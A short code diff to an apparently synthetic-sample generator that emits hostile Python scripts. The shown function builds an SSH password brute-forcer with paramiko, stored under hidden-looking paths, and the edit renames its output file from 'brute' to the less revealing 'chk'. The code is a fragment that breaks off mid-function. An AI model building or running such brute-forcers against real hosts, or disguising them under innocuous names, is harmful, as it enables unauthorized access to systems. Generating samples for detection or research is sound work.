@@ -119,7 +119,7 @@ def py_socket_shell(r, S):
 def py_ssh_brute(r, S):
     """An SSH brute-forcer with paramiko over a target list and a password
     list, writing hits to a file."""
-    return [("%s/%s.py" % (r.choice(("tmp/.s", ".cache/s", "scan")), r.choice(("ssh", "go", "brute"))), "\n".join([
+    return [("%s/%s.py" % (r.choice(("tmp/.s", ".cache/s", "scan")), r.choice(("ssh", "go", "chk"))), "\n".join([
         _sb(r, "python"), "import sys, threading, paramiko", "",
         "hosts = [l.strip() for l in open(sys.argv[1])]", "pwds = [l.strip() for l in open(sys.argv[2])]", "",
         "def try_host(h):", "    for line in pwds:", "        user, pw = line.split(':', 1)", "        c = paramiko.SSHClient()",
